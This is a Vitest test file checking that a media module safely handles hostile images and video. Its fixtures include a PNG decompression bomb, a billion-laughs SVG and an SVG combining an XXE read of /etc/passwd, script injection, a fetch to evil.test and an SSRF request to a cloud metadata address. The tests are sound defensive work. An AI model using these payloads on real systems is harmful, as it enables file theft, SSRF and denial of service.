import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { examine } from '../../src/media/examine.ts';
import { sniffMedia } from '../../src/media/sniff.ts';
import { bytesSource } from '../../src/media/source.ts';
import { makeThumbnails } from '../../src/report/thumbnails.ts';
import { deliveredFiles } from '../activities/outputs/delivered/index.ts';
import { folderBlobs } from '../../src/storage/folder-blobs.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'shotlist-images-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

/** A PNG that says it has so many pixels a side, and holds a few. */
function pngOf(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    check.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, check]);
  };
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(2_000_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(50)}">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`;
const outside = `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch('//evil.test')</script>
<image href="http://169.254.169.254/"/><text>&x;</text></svg>`;

const judged = (bytes: Buffer) => {
  const media = sniffMedia(bytes);
  if (!media) throw new Error('it is not known');
  return examine(bytesSource(bytes), media);
};

describe('an image', () => {
  it('of 50,000 by 50,000 pixels is never unpacked', async () => {
    const bytes = pngOf(50_000);
    const before = process.memoryUsage.rss();
    expect((await judged(bytes)).damage).toContain('50000 x 50000 pixels');
    const blobs = folderBlobs(join(folder, 'blobs'));
    const sha256 = await blobs.put(bytes);
    expect(await makeThumbnails(folder, [{ sha256, mime: 'image/png' }], blobs)).toEqual(new Set());
    expect(process.memoryUsage.rss() - before).toBeLessThan(300 * 1024 * 1024);
  });

  it.each([
    ['entities that stand for entities', laughs],
    ['entities of files, and scripts', outside],
  ])('that is an SVG with %s is kept as it is and never rendered', async (_, text) => {
    const bytes = Buffer.from(text);
    expect(sniffMedia(bytes)?.kind).toBe('vector');
    expect(await judged(bytes)).toMatchObject({ width: null, height: null, damage: null });
    const blobs = folderBlobs(join(folder, 'blobs'));
    const sha256 = await blobs.put(bytes);
    for (const mime of ['image/svg+xml', 'image/png'])
      expect(await makeThumbnails(folder, [{ sha256, mime }], blobs)).toEqual(new Set());
  });

  it('whose box is longer than the file is damaged, and none is walked through for ever', async () => {
    const video = Buffer.from('\0\0\0\x10ftypisom\0\0\0\0\0\x01\0\0moov', 'latin1');
    expect(await judged(video)).toMatchObject({ damage: 'the file ends within its box moov' });
  });

  it('that names a million parts a hundred times over costs a moment', async () => {
    const entry = (tag: number, count: number): Buffer => {
      const bytes = Buffer.alloc(12);
      bytes.writeUInt16LE(tag, 0);
      bytes.writeUInt16LE(4, 2);
      bytes.writeUInt32LE(count, 4);
      bytes.writeUInt32LE(0, 8);
      return bytes;
    };
    const directory = (next: number): Buffer => {
      const end = Buffer.alloc(4);
      end.writeUInt32LE(next);
      return Buffer.concat([Buffer.from([2, 0]), entry(273, 600_000), entry(279, 600_000), end]);
    };
    const bytes = Buffer.alloc(3_000_000);
    bytes.set(Buffer.from('II*\0\x08\0\0\0', 'latin1'));
    for (let index = 0; index < 100; index++) bytes.set(directory(38 + 30 * index), 8 + 30 * index);
    expect((await judged(bytes)).damage).toBe('it holds more than 1000000 parts');
  });

  it('of any kind, cut or changed anywhere, is judged and ends', async () => {
    const files = await Promise.all(
      deliveredFiles.filter(({ ext }) => ext !== 'txt').map(async ({ make }) => await make()),
    );
    const known = files.filter((bytes) => sniffMedia(bytes) !== undefined);
    const changes = fc.record({
      file: fc.nat(known.length - 1),
      end: fc.double({ min: 0, max: 1, noNaN: true }),
      at: fc.double({ min: 0, max: 1, noNaN: true }),
      bytes: fc.uint8Array({ maxLength: 8 }),
    });
    await fc.assert(
      fc.asyncProperty(changes, async ({ file, end, at, bytes }) => {
        const whole = Buffer.from(known[file] ?? []);
        whole.set(bytes, Math.floor(at * Math.max(0, whole.length - 8)));
        const part = whole.subarray(0, Math.ceil(end * whole.length));
        const media = sniffMedia(part);
        if (media) expect(await examine(bytesSource(part), media)).toHaveProperty('damage');
      }),
      { numRuns: 3_000 },
    );
  });
});
